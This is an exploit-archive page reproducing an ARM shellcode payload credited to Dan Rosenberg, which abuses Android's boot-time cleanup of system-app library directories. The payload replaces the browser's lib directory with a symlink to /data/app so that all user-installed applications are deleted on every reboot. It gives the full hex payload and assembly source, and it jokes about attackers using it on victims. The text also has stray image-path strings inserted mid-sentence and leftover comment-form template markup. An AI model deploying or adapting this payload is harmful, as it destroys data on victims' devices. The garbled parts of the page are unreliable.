Android Arbitrary File Removal Payload

2012-04-01 / 2012-04-02
Credit: Dan Rosenberg
Risk: High
Local: No
Remote: Yes

/* * Android Arbitrary File Removal Payload * by Dan Rosenberg (@djrbliss) * * Android differentiates between "system" applications and user-installed * applications, where the former are OEM-shipped and installed in /system/app * rather than /data/app (this has nothing to do with the privileges with which * these applications run). On boot, the Android package manager does a sanity * check on system apps to ensure their native library directories, in * /data/data/[app]/lib, are empty, and if not, empties them by unlinking * everything inside. This check will happily follow symbolic links, so if you * can run code in the context ofa system application (such as the browser), * you can replace its lib/ directory with a symlink to a target directory, * which will be (non-recursively) emptied on every subsequent reboot until the * symlink is removed. Of course this will only remove files on filesystems * mounted read-write (usually not /system). * * I expect this will be useful for APT attackers who have Webkit exploits, are * really bored, and want to play pranks on their victims. :p * * This ARM payload removes all user-installed applications on reboot, freeing * you from the shackles of your Twitter addiction. This example must be run * in the context of the Android browser. * * char payload[] = "\x04\xa0\x28\x27\x00\xdf\x0c\xa0\x02\xa1\x53\x27\x00" * "\xdf\x01\x27\x00\xdf\xc0\x46\x2f\x64\x61\x74\x61\x2f" * "\x64\x61\x74\x61\x2f\x63\x6f\x6d\x2e\x61\x6e\x64\x72" * "\x6f\x69\x64\x2e\x62\x72\x6f\x77\x73\x65\x72\x2f\x6c" * "\x69\x62\x00\x00\x2f\x64\x61\x74\x61\x2f\x61\x70\x70" * "\x00\xc0\x46"; */ .equ NR_exit, 1 .equ NR_rmdir, 40 .equ NR_symlink, 83 .thumb .text start: .Lrmdir: adr r0, .Llib mov r7, #NR_rmdir swi #0 .Lsymlink: adr r0, .Lapps adr r1, .Llib mov r7, #NR_symlink swi #0 .Lexit: mov r7, #NR_exit swi #0 .align .Llib: .asciz"/data/data/" .align .Lapps: .asciz "/data/app" .end

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2020,


Back to Top